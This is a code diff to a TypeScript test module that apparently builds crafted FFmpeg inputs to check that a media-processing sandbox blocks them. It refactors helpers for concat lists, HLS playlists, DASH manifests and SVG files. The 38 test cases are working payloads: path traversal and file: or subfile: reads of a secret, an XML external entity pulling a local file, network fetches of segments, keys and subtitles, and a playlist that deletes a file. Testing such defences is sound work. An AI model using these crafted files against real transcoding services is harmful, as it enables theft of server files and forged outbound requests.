@@ -1,4 +1,13 @@
 import type { AttackTargets } from '../attack-commands.ts'
+import {
+  assetMap,
+  concatList,
+  entityOf,
+  playlist,
+  readPlaylist,
+  session,
+  svg,
+} from '../crafted-files.ts'
 import { words } from './attacks.ts'
 import type { Attack } from './attacks.ts'
 
@@ -18,80 +27,58 @@ export function attacksByContent(targets: AttackTargets, media: SecretMedia): Co
   const { secret, outside, outsideRelative, host } = targets
   const secretSound = media.sound
   const relative = `../..${secretSound}`
-  const list = (file: string, ...options: string[]): string =>
-    ['ffconcat version 1.0', `file '${file}'`, ...options.map((each) => `option ${each}`), ''].join(
-      '\n',
-    )
   const anyProtocol = 'protocol_whitelist file,http,tcp,subfile,concat,crypto,data,async'
-  const byList = (name: string, content: string): Attack =>
-    attack(name, '-f concat -safe 0 -i X -map 0 -c copy -f data o.bin', { 'list.txt': content })
-  const hls = (...lines: string[]): string =>
-    ['#EXTM3U', '#EXT-X-VERSION:7', '#EXT-X-TARGETDURATION:9', ...lines, '#EXT-X-ENDLIST', ''].join(
-      '\n',
-    )
-  const byPlaylist = (name: string, ...lines: string[]): Attack =>
-    attack(name, playlist, { 'list.m3u8': hls(...lines) })
+  const byList = (name: string, member: string, ...options: string[]): Attack =>
+    attack(name, '-f concat -safe 0 -i X -map 0 -c copy -f data o.bin', {
+      'list.txt': concatList(member, ...options),
+    })
+  const bySegment = (name: string, segment: string, ...tags: string[]): Attack =>
+    attack(name, reading, { 'list.m3u8': playlist(...tags, '#EXTINF:9,', segment) })
+  const web = playlist('#EXTINF:9,', `http://${host}/a.ts`)
   return [
-    byList('C01 absolute member', list(secretSound)),
-    byList('C02 member by protocol', list(`file:${secretSound}`, anyProtocol)),
-    byList('C03 member above', list(relative)),
-    byList(
-      'C04 member of a member',
-      list(`subfile,,start,0,end,4000,,:${secretSound}`, anyProtocol),
-    ),
-    byList('C05 joined member', list(`concat:${secretSound}`, anyProtocol)),
-    byList('C06 member on the network', list(`http://${host}/a.wav`, anyProtocol)),
-    byList(
+    byList('C01 absolute member', secretSound),
+    byList('C02 member by protocol', `file:${secretSound}`, anyProtocol),
+    byList('C03 member above', relative),
+    byList('C04 member of a member', `subfile,,start,0,end,4000,,:${secretSound}`, anyProtocol),
+    byList('C05 joined member', `concat:${secretSound}`, anyProtocol),
+    byList('C06 member on the network', `http://${host}/a.wav`, anyProtocol),
+    attack(
       'C07 second member on the network',
-      `${list('in.mp4')}file 'http://${host}/b.mp4'\noption ${anyProtocol}\n`,
+      '-f concat -safe 0 -i X -map 0 -c copy -f data o.bin',
+      {
+        'list.txt': `${concatList('in.mp4')}file 'http://${host}/b.mp4'\noption ${anyProtocol}\n`,
+      },
     ),
     attack('C08 list under a video name', '-safe 0 -i X -map 0 -c copy -f data o.bin', {
-      'list.mp4': list(secretSound),
+      'list.mp4': concatList(secretSound),
     }),
     attack('C09 list by a filter', '-f lavfi -i amovie=X:f=concat:format_opts=safe=0 -f u8 o.bin', {
-      'list.txt': list(secretSound),
+      'list.txt': concatList(secretSound),
     }),
-    byPlaylist('C10 segment by protocol', '#EXTINF:9,', `file://${secretSound}`),
-    byPlaylist('C11 segment by absolute path', '#EXTINF:9,', secretSound),
-    byPlaylist('C12 segment above', '#EXTINF:9,', relative),
-    byPlaylist('C13 segment on the network', '#EXTINF:9,', `http://${host}/a.ts`),
-    byPlaylist('C14 segment behind a cipher', '#EXTINF:9,', `crypto+http://${host}/a.ts`),
-    byPlaylist(
-      'C15 key on the network',
-      `#EXT-X-KEY:METHOD=AES-128,URI="http://${host}/k"`,
-      '#EXTINF:9,',
-      'in.ts',
-    ),
-    byPlaylist(
-      'C16 key of a file',
-      `#EXT-X-KEY:METHOD=AES-128,URI="file://${secret}"`,
-      '#EXTINF:9,',
-      'in.ts',
-    ),
-    byPlaylist(
-      'C17 initialisation on the network',
-      `#EXT-X-MAP:URI="http://${host}/i"`,
-      '#EXTINF:9,',
-      'in.ts',
-    ),
-    attack('C18 variant on the network', playlist, {
+    bySegment('C10 segment by protocol', `file://${secretSound}`),
+    bySegment('C11 segment by absolute path', secretSound),
+    bySegment('C12 segment above', relative),
+    bySegment('C13 segment on the network', `http://${host}/a.ts`),
+    bySegment('C14 segment behind a cipher', `crypto+http://${host}/a.ts`),
+    bySegment('C15 key on the network', 'in.ts', keyAt(`http://${host}/k`)),
+    bySegment('C16 key of a file', 'in.ts', keyAt(`file://${secret}`)),
+    bySegment('C17 initialisation on the network', 'in.ts', `#EXT-X-MAP:URI="http://${host}/i"`),
+    attack('C18 variant on the network', reading, {
       'list.m3u8': `#EXTM3U\n#EXT-X-STREAM-INF:BANDWIDTH=1\nhttp://${host}/v.m3u8\n`,
     }),
-    attack('C19 sound track on the network', playlist, {
+    attack('C19 sound track on the network', reading, {
       'list.m3u8': `#EXTM3U\n#EXT-X-MEDIA:TYPE=AUDIO,GROUP-ID="a",NAME="a",DEFAULT=YES,URI="http://${host}/a.m3u8"\n#EXT-X-STREAM-INF:BANDWIDTH=1,AUDIO="a"\nin.m3u8\n`,
     }),
-    attack('C20 playlist under a video name', playlist, {
-      'list.mp4': hls('#EXTINF:9,', `http://${host}/a.ts`),
-    }),
+    attack('C20 playlist under a video name', reading, { 'list.mp4': web }),
     attack(
       'C21 playlist with its own white list',
-      `-protocol_whitelist file,http,tcp,crypto ${playlist}`,
-      { 'list.m3u8': hls('#EXTINF:9,', `http://${host}/a.ts`) },
+      `-protocol_whitelist file,http,tcp,crypto ${reading}`,
+      { 'list.m3u8': web },
     ),
     attack(
       'C22 playlist by a filter',
       "-f lavfi -i 'movie=X:format_opts=protocol_whitelist=file\\\\,http\\\\,tcp' -frames:v 1 -f rawvideo o.bin",
-      { 'list.m3u8': hls('#EXTINF:9,', `http://${host}/a.ts`) },
+      { 'list.m3u8': web },
     ),
     attack(
       'C23 manifest with a base on the network',
@@ -102,7 +89,7 @@ export function attacksByContent(targets: AttackTargets, media: SecretMedia): Co
       'list.mpd': dash('file:///app/', 'secret.wav'),
     }),
     attack('C25 manifest with an entity', '-i X -map 0 -c copy -f data o.bin', {
-      'list.mpd': `<!DOCTYPE x [<!ENTITY e SYSTEM "file://${secret}">]>${dash('', '&e;')}`,
+      'list.mpd': `${entityOf(secret)}${dash('', '&e;')}`,
     }),
     attack('C26 manifest with a definition on the network', '-i X -map 0 -c copy -f data o.bin', {
       'list.mpd': `<!DOCTYPE x SYSTEM "http://${host}/x.dtd">${dash('', 'a.mp4')}`,
@@ -111,16 +98,16 @@ export function attacksByContent(targets: AttackTargets, media: SecretMedia): Co
       'a.svg': svg(`<image xlink:href="http://${host}/a.png" width="9" height="9"/>`),
     }),
     attack('C28 drawing with a text of a file', '-i X -frames:v 1 -f rawvideo o.bin', {
-      'a.svg': `<!DOCTYPE x [<!ENTITY e SYSTEM "file://${secret}">]>${svg('<text y="9">&e;</text>')}`,
+      'a.svg': `${entityOf(secret)}${svg('<text y="9">&e;</text>')}`,
     }),
     attack('C29 session on the network', '-i X -f null -', {
-      'a.sdp': `v=0\no=- 0 0 IN IP4 127.0.0.1\ns=x\nc=IN IP4 127.0.0.1\nt=0 0\nm=audio ${host.split(':')[1]} RTP/AVP 0\n`,
+      'a.sdp': session(host.split(':')[1] ?? ''),
     }),
     attack(
       'C30 composition on the network',
       '-protocol_whitelist file,http,tcp -f imf -assetmaps X -i cpl.xml -f null -',
       {
-        'map.xml': `<AssetMap><AssetList><Asset><Id>urn:uuid:00000000-0000-0000-0000-000000000000</Id><ChunkList><Chunk><Path>http://${host}/a.mxf</Path></Chunk></ChunkList></Asset></AssetList></AssetMap>`,
+        'map.xml': assetMap(`http://${host}/a.mxf`),
       },
     ),
     attack(
@@ -129,7 +116,7 @@ export function attacksByContent(targets: AttackTargets, media: SecretMedia): Co
       { 'commands.txt': `0.0 drawtext reinit textfile=${secret};\n` },
     ),
     attack('C32 subtitles that are a list', '-i in.mp4 -vf subtitles=X -f null -', {
-      'a.srt': list(`http://${host}/s.srt`, anyProtocol),
+      'a.srt': concatList(`http://${host}/s.srt`, anyProtocol),
     }),
     attack(
       'C33 playlist that an absolute file is deleted for',
@@ -147,30 +134,30 @@ export function attacksByContent(targets: AttackTargets, media: SecretMedia): Co
     ),
     attack(
       'C36 playlist in a playlist',
-      playlist.replace('-map 0', '-map 0:0'),
+      reading.replace('-map 0', '-map 0:0'),
       {
         'list.m3u8': '#EXTM3U\n#EXT-X-STREAM-INF:BANDWIDTH=1\nv.m3u8\n',
-        'v.m3u8': hls('#EXTINF:9,', secretSound),
+        'v.m3u8': playlist('#EXTINF:9,', secretSound),
       },
-      { 'v.m3u8': hls('#EXTINF:9,', 'in.ts') },
+      { 'v.m3u8': playlist('#EXTINF:9,', 'in.ts') },
     ),
     attack(
       'C37 composition with its map beside it',
       '-strict experimental -protocol_whitelist file,http,tcp -i X -map 0 -c copy -f data o.bin',
-      { 'cpl.xml': composition, 'ASSETMAP.xml': assetMap(`http://${host}/x.wav`) },
+      { 'cpl.xml': composition, 'ASSETMAP.xml': compositionMap(`http://${host}/x.wav`) },
     ),
     attack(
       'C38 subtitles that are a list, as an input',
       '-safe 0 -i X -c copy -f srt o.bin',
-      { 'a.srt': list(media.subtitles) },
-      { 'a.srt': list('in.srt') },
+      { 'a.srt': concatList(media.subtitles) },
+      { 'a.srt': concatList('in.srt') },
     ),
   ]
 }
 
 const font = '/usr/share/fonts/truetype/dejavu/DejaVuSans.ttf'
-const playlist =
-  '-allowed_extensions ALL -allowed_segment_extensions ALL -extension_picky 0 -i X -map 0 -c copy -f data o.bin'
+const reading = `${readPlaylist} -i X -map 0 -c copy -f data o.bin`
+const keyAt = (url: string): string => `#EXT-X-KEY:METHOD=AES-128,URI="${url}"`
 
 /** Appends to a playlist and deletes the file of its first line; without folders by date FFmpeg takes only the names. */
 const deleting =
@@ -193,16 +180,12 @@ function dash(base: string, media: string): string {
   return `<MPD xmlns="urn:mpeg:dash:schema:mpd:2011" type="static" mediaPresentationDuration="PT3S"><Period><AdaptationSet mimeType="audio/mp4"><Representation id="0" bandwidth="1"><BaseURL>${base}${media}</BaseURL><SegmentList duration="3"><SegmentURL media="${media}"/></SegmentList></Representation></AdaptationSet></Period></MPD>`
 }
 
-function svg(content: string): string {
-  return `<svg xmlns="http://www.w3.org/2000/svg" xmlns:xlink="http://www.w3.org/1999/xlink" width="64" height="64">${content}</svg>`
-}
-
 function endless(...names: string[]): string {
   const head = ['#EXTM3U', '#EXT-X-VERSION:3', '#EXT-X-TARGETDURATION:1', '#EXT-X-MEDIA-SEQUENCE:0']
   return [...head, ...names.flatMap((name) => ['#EXTINF:0.1,', name]), ''].join('\n')
 }
 
-function assetMap(path: string): string {
+function compositionMap(path: string): string {
   return `<AssetMap xmlns="http://www.smpte-ra.org/schemas/429-9/2007/AM"><Id>urn:uuid:00000000-0000-0000-0000-000000000001</Id><AssetList><Asset><Id>urn:uuid:00000000-0000-0000-0000-000000000002</Id><ChunkList><Chunk><Path>${path}</Path></Chunk></ChunkList></Asset></AssetList></AssetMap>`
 }
 
